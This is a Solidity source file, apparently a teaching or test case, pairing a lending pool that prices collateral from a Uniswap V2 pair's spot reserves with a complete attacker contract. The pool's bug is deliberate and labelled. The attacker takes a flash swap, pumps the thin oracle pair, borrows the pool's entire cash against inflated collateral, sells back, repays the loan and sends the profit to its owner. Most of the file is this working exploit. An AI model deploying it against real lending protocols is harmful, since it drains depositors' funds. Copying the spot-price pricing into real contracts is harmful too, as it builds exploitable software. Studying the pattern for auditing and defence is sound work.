// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20, IUniswapV2Pair, IUniswapV2Callee, V2Math} from "./Interfaces.sol";

// flash-swap-oracle-manipulation: a lending pool priced by a V2 pair's spot reserves, and its attacker.

/// Models a small lending market: lenders supply the debt asset; borrowers pledge the collateral token and
/// borrow up to 75% of its value. VULNERABLE: price() reads the oracle pair's current reserves (see BUG), which
/// anyone can move within one transaction by trading against the pair, so collateral can be valued at any price.
contract SpotPriceLending {
    uint256 public constant LTV_BPS = 7500;
    IERC20 public immutable collateral;
    IERC20 public immutable debtAsset;
    IUniswapV2Pair public immutable oracle;

    mapping(address => uint256) public supplied;
    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;

    event Supplied(address indexed lender, uint256 amount);
    event CollateralDeposited(address indexed borrower, uint256 amount);
    event Borrowed(address indexed borrower, uint256 amount);
    event Repaid(address indexed borrower, uint256 amount);

    constructor(IERC20 collateral_, IERC20 debtAsset_, IUniswapV2Pair oracle_) {
        collateral = collateral_;
        debtAsset = debtAsset_;
        oracle = oracle_;
    }

    /// Debt-asset units per collateral unit, scaled by 1e18.
    function price() public view returns (uint256) {
        (uint256 rCollateral, uint256 rDebt) = V2Math.reserves(oracle, address(collateral)); // BUG: spot price
        return (rDebt * 1e18) / rCollateral;
    }

    function supply(uint256 amount) external {
        debtAsset.transferFrom(msg.sender, address(this), amount);
        supplied[msg.sender] += amount;
        emit Supplied(msg.sender, amount);
    }

    function depositCollateral(uint256 amount) external {
        collateral.transferFrom(msg.sender, address(this), amount);
        collateralOf[msg.sender] += amount;
        emit CollateralDeposited(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        uint256 value = (collateralOf[msg.sender] * price()) / 1e18;
        require(debtOf[msg.sender] * 10000 <= value * LTV_BPS, "SpotPriceLending: undercollateralized");
        debtAsset.transfer(msg.sender, amount);
        emit Borrowed(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        debtAsset.transferFrom(msg.sender, address(this), amount);
        debtOf[msg.sender] -= amount;
        emit Repaid(msg.sender, amount);
    }
}

/// The attack contract, used in the block after its creation. attack() runs in one transaction:
/// flash-swap the debt asset out of a deep pair, buy the collateral with it in the thin oracle pair (its price
/// soars), pledge just enough collateral at that price to borrow all the pool's cash, sell the rest back,
/// repay the flash swap with its 0.3% fee and send what is left to the owner.
contract SpotOracleAttacker is IUniswapV2Callee {
    address public immutable owner;
    IUniswapV2Pair public immutable flashPair;
    IUniswapV2Pair public immutable oraclePair;
    SpotPriceLending public immutable lending;
    IERC20 public immutable debtAsset;
    IERC20 public immutable collateral;

    constructor(IUniswapV2Pair flashPair_, IUniswapV2Pair oraclePair_, SpotPriceLending lending_) {
        owner = msg.sender;
        flashPair = flashPair_;
        oraclePair = oraclePair_;
        lending = lending_;
        debtAsset = lending_.debtAsset();
        collateral = lending_.collateral();
    }

    function attack(uint256 flashAmount) external {
        require(msg.sender == owner, "not owner");
        bool debtIsToken0 = flashPair.token0() == address(debtAsset);
        flashPair.swap(debtIsToken0 ? flashAmount : 0, debtIsToken0 ? 0 : flashAmount, address(this), hex"01");
        debtAsset.transfer(owner, debtAsset.balanceOf(address(this)));
    }

    function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes calldata) external {
        require(msg.sender == address(flashPair) && sender == address(this), "unexpected callback");
        uint256 borrowed = amount0 + amount1;
        uint256 bought = V2Math.sell(oraclePair, address(debtAsset), borrowed, address(this));

        uint256 unitValue = (lending.price() * lending.LTV_BPS()) / 10000; // borrowable per collateral, 1e18
        uint256 cash = debtAsset.balanceOf(address(lending));
        uint256 pledge = (cash * 1e18) / unitValue + 1;
        if (pledge > bought) {
            pledge = bought;
            cash = (bought * unitValue) / 1e18;
        }
        collateral.approve(address(lending), pledge);
        lending.depositCollateral(pledge);
        lending.borrow(cash);

        if (bought > pledge) {
            V2Math.sell(oraclePair, address(collateral), bought - pledge, address(this));
        }
        debtAsset.transfer(address(flashPair), (borrowed * 1000) / 997 + 1);
    }
}
